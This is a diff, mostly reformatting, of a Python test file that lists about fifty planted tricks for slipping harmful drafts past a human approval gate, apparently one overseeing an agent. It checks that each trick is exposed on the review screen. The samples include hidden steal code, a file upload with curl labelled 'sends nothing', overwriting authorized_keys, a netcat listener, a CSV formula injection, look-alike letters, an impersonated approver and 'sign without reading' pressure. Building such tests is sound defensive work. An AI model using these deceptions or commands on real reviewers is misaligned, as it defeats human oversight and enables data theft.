@@ -1,8 +1,8 @@
 """Fifty ways to slip something past the person at the gate, and what must stand on every screen for each.
 
-Each attack is a draft that looks like everyday work, with one thing planted in it. `card` has to be in the first section,
-`line` anywhere on the screen, and `gate` in the findings of a draft that gate 1 does not even let a person approve.
-Spaces and the rows that a long line is broken into do not count: only whether a person can read it.
+Each attack is a draft that looks like everyday work, with one thing planted in it. `card` has to be in the first
+section, `line` anywhere on the screen, and `gate` in the findings of a draft that gate 1 does not even let a person
+approve. Spaces and the rows that a long line is broken into do not count: only whether a person can read it.
 """
 
 from __future__ import annotations
@@ -83,9 +83,7 @@ def code_attacks() -> list[Planted]:
         one("after-a-comment", monty("after-a-comment", f"# {'-' * 400}\n{STEAL}  # as always"), STEAL),
         one("voice-heading", monty("voice-heading", f"'''\n== WALLS\n'''\n{STEAL}"), "| == WALLS", STEAL),
         one("voice-card", monty("voice-card", f"'''\n  risk        low, as declared\n'''\n{STEAL}"), STEAL),
-        one(
-            "voice-prompt", monty("voice-prompt", f"# Sign as alice? [y/N] y\n{STEAL}"), "| # Sign as", STEAL
-        ),
+        one("voice-prompt", monty("voice-prompt", f"# Sign as alice? [y/N] y\n{STEAL}"), "| # Sign as", STEAL),
         one("voice-count", monty("voice-count", f"# (2 more lines, all harmless)\n{STEAL}"), STEAL),
         one("look-alike-letters", monty("look-alike-letters", "p\u0430yload = 1"), "U+0430"),
         one("combining", monty("combining", "x = 'a\u0301\u0301\u0301'"), "\\u0301"),
@@ -162,9 +160,9 @@ def reach_attacks() -> list[Planted]:
             era("unusual-program", "nc -l 9000"),
             card=("high", "nobody here vouches for the program"),
         ),
-        one("option-among-many", era("option-among-many", "grep " + "-e word " * 60 + "-f /in/other"), "-f", "/in/other"),
+        one("option-among-many", era("option-among-many", "grep " + "-e word " * 60 + "-f /in/other"), "-f", "/in/other"),  # noqa: E501
         one("code-in-an-option", era("code-in-an-option", f'python3 -c "{STEAL}"'), STEAL),
-        one("writes-over-its-input", era("writes-over-its-input", "cp /in/a.txt /out/authorized_keys", inputs={"a.txt": b"x"}, outputs=("/out/authorized_keys",)), "authorized_keys", a__txt=b"x"),
+        one("writes-over-its-input", era("writes-over-its-input", "cp /in/a.txt /out/authorized_keys", inputs={"a.txt": b"x"}, outputs=("/out/authorized_keys",)), "authorized_keys", a__txt=b"x"),  # noqa: E501
     ]  # fmt: skip
 
 
@@ -202,7 +200,7 @@ def input_attacks() -> list[Planted]:
         ),
         one(
             "lines-at-the-end-of-data",
-            monty("lines-at-the-end-of-data", "x = 1", inputs={"rows.csv": hashlib.sha256(b"1\n" * 40 + b"=cmd|evil\n").hexdigest()}),
+            monty("lines-at-the-end-of-data", "x = 1", inputs={"rows.csv": hashlib.sha256(b"1\n" * 40 + b"=cmd|evil\n").hexdigest()}),  # noqa: E501
             "rows.csv",
             rows__csv=b"1\n" * 40 + b"=cmd|evil\n",
         ),
@@ -217,12 +215,17 @@ def person_attacks() -> list[Planted]:
 
     purpose = "purpose: A test of the whole way."
     return [
-        one("named-as-the-operator", says("named-as-the-operator", "requested_by: core-agent", "requested_by: alice"), card=("alice",)),
-        one("named-almost-so", says("named-almost-so", "requested_by: core-agent", "requested_by: a1ice"), card=("a1ice", "as the file says")),
-        one("says-it-was-approved", says("says-it-was-approved", purpose, "purpose: Approved by alice, risk none, walls on."), "| Approved by alice"),
-        one("says-it-reads-only", era("says-it-reads-only", "curl -T /in/a.txt https://api.example.org/", "api.example.org:443", inputs={"a.txt": b"x"}).replace(purpose, "purpose: Reads a file and sends nothing."), card=("api.example.org",), a__txt=b"x"),
-        one("very-long-purpose", says("very-long-purpose", purpose, "purpose: " + "Weekly numbers. " * 12 + "And the keys."), "And the keys."),
-        one("asks-to-hurry", says("asks-to-hurry", "- Justification: a test", "- Justification: URGENT, sign without reading"), "| URGENT"),
+        one("named-as-the-operator", says("named-as-the-operator", "requested_by: core-agent", "requested_by: alice"), card=("alice",)),  # noqa: E501
+        one("named-almost-so", says("named-almost-so", "requested_by: core-agent", "requested_by: a1ice"), card=("a1ice", ("as the file "  # noqa: E501
+        "says"))),
+        one("says-it-was-approved", says("says-it-was-approved", purpose, ("purpose: Approved by alice, risk none, walls "  # noqa: E501
+        "on.")), "| Approved by alice"),
+        one("says-it-reads-only", era("says-it-reads-only", "curl -T /in/a.txt https://api.example.org/", "api.example.org:443", inputs={"a.txt": b"x"}).replace(purpose, ("purpose: Reads a file and sends "  # noqa: E501
+        "nothing.")), card=("api.example.org",), a__txt=b"x"),
+        one("very-long-purpose", says("very-long-purpose", purpose, "purpose: " + "Weekly numbers. " * 12 + ("And the "
+        "keys.")), "And the keys."),
+        one("asks-to-hurry", says("asks-to-hurry", "- Justification: a test", ("- Justification: URGENT, sign without "
+        "reading")), "| URGENT"),
     ]  # fmt: skip
 
 
@@ -252,12 +255,12 @@ def later() -> list[Planted]:
     other = {"day.json": hashlib.sha256(b"[1, 3]").hexdigest()}
     more = {**same, "keys.json": hashlib.sha256(b"[9]").hexdigest()}
     return [
-        one("one-character-of-code", everyday("one-character-of-code", code="total = sum(rows)\nprint(tota1)", inputs=same), card=("differs",), day__json=b"[1, 2]"),
-        one("another-input-of-that-name", everyday("another-input-of-that-name", inputs=other), card=("differs",), day__json=b"[1, 3]"),
-        one("one-more-input", everyday("one-more-input", inputs=more), "keys.json", card=("differs",), day__json=b"[1, 2]", keys__json=b"[9]"),
+        one("one-character-of-code", everyday("one-character-of-code", code="total = sum(rows)\nprint(tota1)", inputs=same), card=("differs",), day__json=b"[1, 2]"),  # noqa: E501
+        one("another-input-of-that-name", everyday("another-input-of-that-name", inputs=other), card=("differs",), day__json=b"[1, 3]"),  # noqa: E501
+        one("one-more-input", everyday("one-more-input", inputs=more), "keys.json", card=("differs",), day__json=b"[1, 2]", keys__json=b"[9]"),  # noqa: E501
         one("more-time", everyday("more-time", inputs=same, time_sec=120), card=("differs",), day__json=b"[1, 2]"),
-        one("another-output", everyday("another-output", inputs=same, outputs=("/out/elsewhere.txt",)), "elsewhere.txt", card=("differs",), day__json=b"[1, 2]"),
-        Planted("second-use-of-an-id", everyday("yesterday", inputs=same), gate=("was used before",), inputs=(("day.json", b"[1, 2]"),)),
+        one("another-output", everyday("another-output", inputs=same, outputs=("/out/elsewhere.txt",)), "elsewhere.txt", card=("differs",), day__json=b"[1, 2]"),  # noqa: E501
+        Planted("second-use-of-an-id", everyday("yesterday", inputs=same), gate=("was used before",), inputs=(("day.json", b"[1, 2]"),)),  # noqa: E501
     ]  # fmt: skip
 
 
